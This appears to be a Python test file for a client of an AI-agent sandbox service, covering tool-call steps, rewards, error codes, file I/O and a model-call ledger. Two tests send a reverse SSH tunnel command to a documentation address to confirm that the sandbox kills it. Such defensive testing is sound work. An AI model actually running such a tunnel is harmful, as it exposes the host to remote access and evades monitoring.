"""Runs against a real `ale serve` ($ALE_URL, $ALE_TOKEN) whose tasks include `greet`
(write the word in note.txt to out.txt); PythonClientTest in ale-cli starts one."""

import json
import os
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))

from ale_client import AleError, Client, Env, Sandbox  # noqa: E402

TASK = os.environ.get("ALE_TASK", "greet")


def call(name, **arguments):
    """A tool call in OpenAI's form, arguments as JSON text, as a model would send it."""
    return {"type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}


class EnvTest(unittest.TestCase):

    def test_a_task_is_solved_through_the_env_api(self):
        with Env.make(TASK, seed=3) as env:
            obs, info = env.reset()
            self.assertIn("note.txt", obs)
            self.assertIn("shell", [t["function"]["name"] for t in info["tools"]])
            obs, reward, terminated, truncated, info = env.step(call("shell", command="cat note.txt"))
            self.assertIn("hello", obs)
            self.assertEqual((reward, terminated, truncated), (0, False, False))
            env.step({"name": "write_file", "arguments": {"path": "out.txt", "content": "hello\n"}})
            obs, reward, terminated, truncated, info = env.step({"tool": "finish", "arguments": {"summary": "done"}})
            self.assertTrue(terminated)
            self.assertFalse(truncated)
            self.assertEqual(reward, 1.0)
            self.assertTrue(info["verifier"]["passed"])

    def test_a_reverse_tunnel_is_killed_and_shows_in_the_events(self):
        with Env.make(TASK) as env:
            env.reset(seed=1)
            obs, reward, terminated, truncated, info = env.step(
                call("shell", command="ssh -N -R 2222:localhost:22 x@203.0.113.9"))
            self.assertTrue(terminated)
            self.assertLess(reward, 0)
            self.assertEqual(info["kill_reason"], "tunnel.ssh.remote-forward")
            self.assertIn("kill", [e["action"] for e in info["events"]])
            self.assertIn("[ALE] killed", obs)

    def test_a_malformed_action_is_an_observation(self):
        with Env.make(TASK) as env:
            env.reset()
            obs, reward, terminated, _, info = env.step({"name": "shell", "arguments": "{\"command\": "})
            self.assertIn("not a JSON object", obs)
            self.assertFalse(terminated)

    def test_errors_carry_the_servers_code(self):
        with self.assertRaises(AleError) as caught:
            Env.make("no-such-task")
        self.assertEqual(caught.exception.status, 400)
        self.assertEqual(caught.exception.code, "invalid_field")
        env = Env.make(TASK)
        env.close()
        with self.assertRaises(AleError) as gone:
            env.reset()
        self.assertEqual(gone.exception.code, "not_found")
        with self.assertRaises(AleError) as bad:
            Client(token="not-a-token-at-all").request("GET", "/v1/envs")
        self.assertEqual(bad.exception.status, 401)


class SandboxTest(unittest.TestCase):

    def test_exec_and_files(self):
        with Sandbox.create(passport="default", labels={"from": "python"}) as sb:
            r = sb.exec(["python3", "-c", "print(6 * 7)"])
            self.assertEqual(r["exit_code"], 0)
            self.assertEqual(r["stdout"], "42\n")
            self.assertEqual(sb.exec("echo $((1 + 2))")["stdout"], "3\n")
            sb.write_file("/workspace/data.txt", "ünïcode\n")
            self.assertEqual(sb.read_file("/workspace/data.txt").decode("utf-8"), "ünïcode\n")
            killed = sb.exec(["ssh", "-N", "-R", "2222:localhost:22", "x@203.0.113.9"])
            self.assertTrue(killed["killed"])
            self.assertEqual(killed["reason"], "tunnel.ssh.remote-forward")
            with self.assertRaises(AleError) as after:
                sb.exec("true")
            self.assertEqual(after.exception.code, "sandbox_not_running")

    def test_model_calls_are_empty_without_a_model_upstream(self):
        with Sandbox.create() as sb:
            self.assertIsNone(sb.model_token)
            ledger = sb.model_calls()
            self.assertEqual(ledger["sandbox_id"], sb.id)
            self.assertEqual(ledger["calls"], [])
            self.assertEqual(ledger["tokens_spent"], 0)
            self.assertEqual(ledger["token_budget"], 1000000)


if __name__ == "__main__":
    unittest.main()
